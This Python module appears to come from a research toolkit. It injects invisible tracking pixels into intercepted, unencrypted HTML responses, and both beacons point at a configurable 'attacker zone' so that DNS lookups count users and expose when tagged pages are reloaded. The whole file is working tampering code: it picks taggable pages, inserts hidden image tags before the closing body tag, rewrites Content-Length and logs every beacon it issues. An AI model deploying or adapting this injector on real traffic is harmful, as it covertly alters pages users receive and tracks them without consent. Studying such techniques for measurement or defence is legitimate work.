"""Beacon-tag injection into HTML response bodies.

Rewrites eligible text/html responses to carry two invisible 1x1 image
elements: one at a fixed well-known subdomain (counts distinct users via
client-side DNS caching) and one at a freshly generated unique subdomain
(forces one DNS lookup per tagged page; repeat hits reveal reappearance).
The whole insertion is bracketed by sentinel comments so rewritten pages
are never re-tagged and the original body can be restored exactly.
"""

from __future__ import annotations

import csv
import hashlib
import re
from dataclasses import dataclass, replace
from typing import Iterable

from beaconlab.httplog import Headers, HttpExchange, mime_type

MARKER_BEGIN = "<!--bx:begin-->"
MARKER_END = "<!--bx:end-->"
DEFAULT_STATIC_LABEL = "pixel"
DEFAULT_OBJECT_NAME = "p.gif"

_BODY_OPEN_RE = re.compile(rb"<body[\s>]", re.IGNORECASE)
_BODY_CLOSE_RE = re.compile(rb"</body\s*>", re.IGNORECASE)
_STRIP_RE = re.compile(
    re.escape(MARKER_BEGIN.encode()) + rb".*?" + re.escape(MARKER_END.encode()),
    re.DOTALL,
)
_LABEL_RE = re.compile(r"^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$")

STATIC = "static"
DYNAMIC = "dynamic"


@dataclass(frozen=True)
class Tag:
    """One issued beacon: its kind, DNS label, full URL, and provenance."""

    kind: str
    subdomain: str
    url: str
    exchange_id: str
    injected_at: float


class Injector:
    """Stateful tag issuer bound to one attacker zone.

    Dynamic labels are a deterministic function of (seed, counter), so a
    given injector lineage never repeats a label and reruns with the same
    seed reproduce the same labels. Not thread-safe; confine one instance
    to one task or guard with a lock.
    """

    def __init__(
        self,
        zone: str,
        static_label: str = DEFAULT_STATIC_LABEL,
        seed: int = 0,
        object_name: str = DEFAULT_OBJECT_NAME,
    ):
        if not _LABEL_RE.match(static_label):
            raise ValueError(f"invalid static label: {static_label!r}")
        self.zone = zone.lower().rstrip(".")
        self.static_label = static_label
        self.seed = seed
        self.object_name = object_name
        self.counter = 0
        self.issued: list[Tag] = []

    def beacon_url(self, label: str) -> str:
        return f"http://{label}.{self.zone}/{self.object_name}"

    def generate_subdomain(self) -> str:
        """Next unique dynamic label: lowercase alphanumeric, <= 32 chars."""
        digest = hashlib.sha256(f"{self.seed}:{self.counter}".encode()).hexdigest()[:12]
        label = f"d{self.counter:06x}{digest}"
        self.counter += 1
        return label

    def is_taggable(self, exchange: HttpExchange) -> bool:
        """HTML with a body element, not yet tagged, not opaque or encoded."""
        if exchange.is_encrypted:
            return False
        if mime_type(exchange) != "text/html":
            return False
        encoding = exchange.header("content-encoding")
        if encoding is not None and encoding.strip().lower() not in ("", "identity"):
            return False
        body = exchange.response_body
        if MARKER_BEGIN.encode() in body:
            return False
        return _BODY_OPEN_RE.search(body) is not None

    def _image_element(self, url: str) -> str:
        return (
            f'<img src="{url}" width="1" height="1" '
            f'style="position:absolute;visibility:hidden" alt="">'
        )

    def inject(self, exchange: HttpExchange) -> tuple[HttpExchange, list[Tag]]:
        """Insert the static and one fresh dynamic beacon before </body>.

        Non-taggable exchanges pass through byte-identical with no tags.
        Content-Length is updated to the rewritten body length.
        """
        if not self.is_taggable(exchange):
            return exchange, []
        dynamic_label = self.generate_subdomain()
        static_url = self.beacon_url(self.static_label)
        dynamic_url = self.beacon_url(dynamic_label)
        block = (
            MARKER_BEGIN
            + self._image_element(static_url)
            + self._image_element(dynamic_url)
            + MARKER_END
        ).encode("ascii")
        body = exchange.response_body
        closes = list(_BODY_CLOSE_RE.finditer(body))
        if closes:
            # Before the last closing body tag; malformed pages get the
            # block appended after the final byte instead.
            at = closes[-1].start()
            new_body = body[:at] + block + body[at:]
        else:
            new_body = body + block
        new_headers = _set_content_length(exchange.response_headers, len(new_body))
        rewritten = replace(exchange, response_body=new_body, response_headers=new_headers)
        tags = [
            Tag(STATIC, self.static_label, static_url, exchange.exchange_id, exchange.timestamp),
            Tag(DYNAMIC, dynamic_label, dynamic_url, exchange.exchange_id, exchange.timestamp),
        ]
        self.issued.extend(tags)
        return rewritten, tags


def _set_content_length(headers: Headers, length: int) -> Headers:
    out = []
    replaced = False
    for name, value in headers:
        if name.lower() == "content-length":
            if not replaced:
                out.append((name, str(length)))
                replaced = True
            # duplicate Content-Length headers are dropped
        else:
            out.append((name, value))
    if not replaced:
        out.append(("Content-Length", str(length)))
    return tuple(out)


def strip_injected(body: bytes) -> bytes:
    """Remove every injected beacon block, restoring the original bytes."""
    return _STRIP_RE.sub(b"", body)


def write_tag_log(tags: Iterable[Tag], path: str) -> None:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["kind", "subdomain", "url", "exchange_id", "injected_at"])
        for tag in tags:
            writer.writerow([tag.kind, tag.subdomain, tag.url, tag.exchange_id, tag.injected_at])


def read_tag_log(path: str) -> list[Tag]:
    tags = []
    with open(path, "r", encoding="utf-8", newline="") as fh:
        reader = csv.reader(fh)
        next(reader, None)
        for row in reader:
            if not row:
                continue
            kind, subdomain, url, exchange_id, injected_at = row
            tags.append(Tag(kind, subdomain, url, exchange_id, float(injected_at)))
    return tags


def rewrite_log(
    in_path: str, out_path: str, tag_path: str, injector: Injector
) -> tuple[int, int]:
    """Offline file-to-file rewrite: returns (exchanges, tags issued)."""
    from beaconlab.httplog import read_exchange_log, write_exchange_log

    exchanges = read_exchange_log(in_path)
    rewritten = []
    all_tags: list[Tag] = []
    for exchange in exchanges:
        out, tags = injector.inject(exchange)
        rewritten.append(out)
        all_tags.extend(tags)
    write_exchange_log(rewritten, out_path)
    write_tag_log(all_tags, tag_path)
    return len(rewritten), len(all_tags)
